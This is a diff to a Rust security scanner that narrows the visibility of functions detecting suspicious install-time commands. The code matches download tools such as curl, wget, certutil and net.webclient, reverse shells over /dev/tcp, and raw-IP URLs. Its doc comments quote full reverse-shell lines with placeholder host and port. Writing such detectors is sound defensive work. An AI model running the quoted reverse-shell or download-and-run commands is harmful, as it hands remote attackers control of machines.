@@ -3,7 +3,7 @@
 //! (for `download-exec`). Input is the lower-cased, folded command text.
 
 /// First token found that makes a command suspicious at install time.
-pub fn suspicious_tokens(cmd: &str) -> Option<&'static str> {
+pub(crate) fn suspicious_tokens(cmd: &str) -> Option<&'static str> {
     const TOKENS: &[(&str, &str)] = &[
         ("curl ", "curl"),
         ("curl.exe", "curl"),
@@ -79,7 +79,7 @@ pub fn suspicious_tokens(cmd: &str) -> Option<&'static str> {
 }
 
 /// A command that downloads and runs something all by itself.
-pub fn download_and_run(cmd: &str) -> Option<&'static str> {
+pub(crate) fn download_and_run(cmd: &str) -> Option<&'static str> {
     let has = |s: &str| cmd.contains(s);
     let fetch = has("curl") || has("wget") || has("invoke-webrequest") || has("iwr ") || has("downloadstring")
         || has("downloadfile") || has("net.webclient") || has("bitsadmin") || has("certutil") || has("urlcache")
@@ -121,12 +121,12 @@ pub fn download_and_run(cmd: &str) -> Option<&'static str> {
 /// a stream is redirected onto or from it (`bash -i >& /dev/tcp/H/P 0>&1`,
 /// `exec 5<>/dev/tcp/H/P; sh <&5 >&5`). Opening the socket alone, as a reachability
 /// probe does (`bash -c "exec 3<>/dev/tcp/$ip/$port"`), connects but hands nothing over.
-pub fn shell_on_socket(cmd: &str) -> bool {
+pub(crate) fn shell_on_socket(cmd: &str) -> bool {
     (cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/")) && (cmd.contains(">&") || cmd.contains("<&") || cmd.contains(" -i "))
 }
 
 /// URL with a literal IPv4 host.
-pub fn has_raw_ip_url(s: &str) -> bool {
+pub(crate) fn has_raw_ip_url(s: &str) -> bool {
     for scheme in ["http://", "https://"] {
         let mut rest = s;
         while let Some(i) = rest.find(scheme) {
